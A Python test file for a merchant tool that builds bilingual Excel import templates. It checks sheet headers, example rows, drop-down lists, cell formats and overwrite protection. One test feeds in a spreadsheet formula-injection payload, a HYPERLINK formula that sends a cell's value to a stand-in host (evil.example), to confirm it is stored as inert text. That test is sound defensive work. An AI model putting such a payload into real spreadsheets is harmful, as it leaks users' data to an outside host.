"""What stands in a template: sheets, headers, rows that are known, drop-downs, and text that stays text."""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook
from template_tools import Ran, asked, imported, rows_of

from importers.own._sheets import SHEETS
from merchant_cli.basics.problems import Problem
from merchant_cli.intake.take_in import identified

Make = Callable[..., Workbook]

HEADERS = {
    "zh": {
        "成本与供应商": "商家编码,标题,成本,币种,生效日期,供应商,交货天数,补货间隔天数,每箱件数,起订量",
        "库存": "商家编码,标题,仓库,实盘数量,盘点日期,账面数量（不导入）",
        "优惠券": "优惠券编号,优惠券名称,店铺,承担方,优惠方式,面额,门槛,适用范围,预算,币种,开始日期,结束日期",
        "活动": "活动名称,开始日期,结束日期,店铺,活动商品,目标销售额,目标订单数,预算,币种",
        "评价": "评价编号,店铺,订单编号,商家编码,评价日期,评分,评价内容,追评内容,商家回复",
        "推广花费": "开始日期,结束日期,店铺,推广账户,推广计划,商家编码,花费,币种,展现量,点击量",
    },
    "en": {
        "costs": "SKU,Title,Unit cost,Currency,Valid from,Supplier,Lead days,Review days,Pack size,Minimum order",
        "stock": "SKU,Title,Location,Counted units,Counted on,Known now (not read)",
        "coupons": "Coupon id,Coupon name,Shop,Borne by,Discount type,Face value,Threshold,Scope,Budget,Currency,"
        "Starts on,Ends on",
        "campaigns": "Campaign,Starts on,Ends on,Shops,SKUs,Sales goal,Orders goal,Budget,Currency",
        "reviews": "Review id,Shop,Order id,SKU,Reviewed on,Stars,Review text,Follow-up,Shop reply",
        "ads": "Starts on,Ends on,Shop,Ad account,Ad campaign,SKU,Spend,Currency,Impressions,Clicks",
    },
}
COSTS, STOCK = "成本与供应商", "库存"


def header(book: Workbook, sheet: str) -> str:
    return ",".join(str(cell.value) for cell in book[sheet][1])


def test_sheets_and_headers_in_chinese(shop: Path, made: Make) -> None:
    book = made("zh")
    assert book.sheetnames == ["说明", *HEADERS["zh"], "_lists"]
    assert {sheet: header(book, sheet) for sheet in HEADERS["zh"]} == HEADERS["zh"]


def test_sheets_and_headers_in_english(shop: Path, made: Make) -> None:
    book = made("en")
    titles = {kind: sheet.title.en for kind, sheet in SHEETS.items()}
    assert book.sheetnames == ["Read me", *titles.values(), "_lists"]
    assert {kind: header(book, titles[kind]) for kind in titles} == HEADERS["en"]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_each_sheet_is_known_and_the_others_are_not(shop: Path, made: Make, tmp_path: Path, lang: str) -> None:
    made(lang)
    found = dict(identified(shop, [str(tmp_path / "sheets.xlsx")]))
    known = {name.partition("!")[2]: found[name] for name in found}
    for kind, sheet in SHEETS.items():
        one = known.pop(sheet.title.show(lang))
        assert not isinstance(one, Problem) and one.entry.id == f"own {kind}" and one.header_line == 1
    assert all(isinstance(one, Problem) for one in known.values())


@pytest.mark.parametrize("lang,mark", [("zh", "示例"), ("en", "EXAMPLE")])
def test_without_a_store_the_example_rows_come(made: Make, tmp_path: Path, lang: str, mark: str) -> None:
    book = made(lang)
    for sheet in SHEETS.values():
        rows = rows_of(book, sheet.title.show(lang))
        assert len(rows) == 1 and str(next(iter(rows[0].values()))).startswith(mark)
        assert [name for name, value in rows[0].items() if value is None] in ([], ["追评内容"], ["Follow-up"], [
            SHEETS["stock"].columns[-1].label.show(lang)])  # fmt: skip
    assert not (tmp_path / "merchant.db").exists()


def test_best_sellers_of_90_covered_days_come_first(shop: Path, made: Make) -> None:
    days = sorted({day for (day,) in asked(shop, "SELECT day FROM coverage WHERE kind IN ('orders', 'lines')")})[-90:]
    sold: dict[str, int] = {}
    for sku, day, units in asked(shop, "SELECT sku, day, units FROM order_lines WHERE counts AND line_kind = 'goods'"):
        sold[sku] = sold.get(sku, 0) + (units if day >= days[0] else 0)
    listed = {sku for (sku,) in asked(shop, "SELECT sku FROM listings UNION SELECT sku FROM products")}
    skus = [row["商家编码"] for row in rows_of(made(), COSTS)[1:]]
    assert set(skus) == listed | set(sold) and len(skus) == len(set(skus)) > 50
    assert [sold.get(sku, 0) for sku in skus] == sorted((sold.get(sku, 0) for sku in skus), reverse=True)


def test_costs_hold_what_is_known_now(shop: Path, made: Make) -> None:
    rows = {row["商家编码"]: row for row in rows_of(made(), COSTS)[1:]}
    known = asked(shop, "SELECT sku, from_day, cost_minor, currency FROM costs ORDER BY from_day")
    newest = {sku: (cost / 100, currency, from_day) for sku, from_day, cost, currency in known}
    assert len(newest) > 40
    for sku, (cost, currency, from_day) in newest.items():
        since = rows[sku]["生效日期"]
        assert (rows[sku]["成本"], rows[sku]["币种"]) == (cost, currency)
        assert (since.date().isoformat() if isinstance(since, datetime) else "") == from_day
    for sku, supplier, lead, review, pack, moq in asked(
        shop,
        "SELECT p.sku, supplier, lead_days, review_days, pack, p.moq FROM products p JOIN suppliers USING (supplier)",
    ):
        row = rows[sku]
        assert (row["供应商"], row["交货天数"], row["补货间隔天数"]) == (supplier, lead, review)
        assert (row["每箱件数"], row["起订量"]) == (pack, moq)
    blank = [row for sku, row in rows.items() if sku not in newest]
    assert blank and all(row["成本"] is None and row["币种"] == "CNY" and row["标题"] for row in blank)


def test_stock_says_what_is_known_and_counts_nothing(shop: Path, made: Make) -> None:
    rows = rows_of(made(), STOCK)[1:]
    assert all(row["实盘数量"] is None and row["盘点日期"] is None for row in rows)
    places: dict[str, set[str]] = {}
    for sku, place in asked(shop, "SELECT sku, location FROM stock_counts"):
        places.setdefault(sku, set()).add(place)
    assert {(r["商家编码"], r["仓库"]) for r in rows} >= {(sku, p) for sku, some in places.items() for p in some}
    on_hand = dict(asked(shop, "SELECT sku, on_hand FROM stock_now"))
    alone = [row for row in rows if len(places.get(row["商家编码"], ())) == 1]
    assert alone and all(row["账面数量（不导入）"] == on_hand[row["商家编码"]] for row in alone)


def test_coupons_and_campaigns_are_shown_as_they_were_written(shop: Path, made: Make) -> None:
    book = made()
    coupons = {row["优惠券编号"]: row for row in rows_of(book, "优惠券")[1:]}
    assert (coupons["D11-12"]["优惠方式"], coupons["D11-12"]["面额"]) == ("折扣", 12)
    assert (coupons["TMALL-D11"]["承担方"], coupons["TMALL-D11"]["面额"]) == ("平台", 10)
    campaigns = {row["活动名称"]: row for row in rows_of(book, "活动")[1:]}
    campaign = campaigns["双11年度大促"]
    assert campaign["目标销售额"] == 8000 and campaign["开始日期"] == datetime(2026, 11, 1)


def test_drop_downs_offer_what_the_hidden_sheet_lists(shop: Path, made: Make) -> None:
    for lang, words in (("zh", ["店铺", "平台", "达人"]), ("en", ["shop", "platform", "creator"])):
        book = made(lang)
        assert book["_lists"].sheet_state == "hidden"
        offered = {}
        for sheet in SHEETS.values():
            page = book[sheet.title.show(lang)]
            for rule in page.data_validations.dataValidation:
                column = sheet.columns[next(iter(rule.sqref.ranges)).min_col - 1]
                where = rule.formula1.removeprefix("'_lists'!").replace("$", "")
                offered[sheet.kind, column.name] = [str(cell.value) for (cell,) in book["_lists"][where]]
        assert offered["coupons", "bearer"] == words and len(offered["coupons", "kind"]) == 3
        assert offered["costs", "currency"][:2] == ["CNY", "USD"]
        assert offered["ads", "_in_shop"] == ["shopify/main", "taobao/main"]
        assert offered["reviews", "code"] == offered["ads", "item"] and "00871" in offered["ads", "item"]


def test_sheets_are_ready_to_work_in(shop: Path, made: Make) -> None:
    book = made()
    for sheet in HEADERS["zh"]:
        page = book[sheet]
        assert page.freeze_panes == "A2" and page.auto_filter.ref.startswith("A1:")
    costs = book[COSTS]
    assert costs["A3"].number_format == "@" and costs["A3"].data_type == "s"
    assert (costs["C3"].number_format, costs["E3"].number_format) == ("#,##0.00", "yyyy-mm-dd")
    assert costs.column_dimensions["B"].width > 30  # a Chinese character is two cells wide


def test_text_like_a_formula_stays_text(shop: Path, made: Make, tmp_path: Path) -> None:
    evil, sku = '=HYPERLINK("http://evil.example?" & A1, "x")', "@SUM(1)"
    sheet = tmp_path / "costs.csv"
    quoted = evil.replace('"', '""')
    sheet.write_text(f'SKU,Title,Unit cost,Valid from,Pack size\n{sku},"{quoted}",1,,6\n', encoding="utf-8")
    assert imported(shop, sheet)["own costs"].by_table["products"] == {"inserted": 1}
    book = made("en")
    cells = {row[0].value: row[1] for row in book["Costs and suppliers"].iter_rows(min_row=2)}
    assert cells[sku].value == evil and cells[sku].data_type == "s" and cells[sku].hyperlink is None
    again = imported(shop, tmp_path / "sheets.xlsx")["own costs"]
    assert again.outcome["inserted"] == again.outcome["updated"] == again.outcome["quarantined"] == 0


def test_a_file_that_exists_is_kept(run: Callable[..., Ran], tmp_path: Path) -> None:
    path = tmp_path / "mine.xlsx"
    path.write_bytes(b"mine")
    ran = run("template", "costs", "-o", path)
    assert ran.code == 2 and "output-refused" in ran.err and "--force" in ran.err
    assert path.read_bytes() == b"mine"
    assert run("template", "costs", "-o", path, "--force").code == 0
    assert path.read_bytes().startswith(b"PK")
    assert not list(tmp_path.glob(".*.part"))


@pytest.mark.parametrize(
    "words,said",
    [
        (("all", "-o", "x.csv"), "output-refused"),
        (("costs", "-o", "x.ods"), "output-refused"),
        (("costs", "-o", "missing/x.xlsx"), "output-refused"),
        (("cost", "-o", "x.xlsx"), "costs"),
        (("costs",), "--output"),
    ],
)
def test_what_cannot_be_made_is_said(
    run: Callable[..., Ran], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...], said: str
) -> None:
    monkeypatch.chdir(tmp_path)
    ran = run("template", *words)
    assert ran.code == 2 and said in ran.err and not list(tmp_path.glob("x.*"))
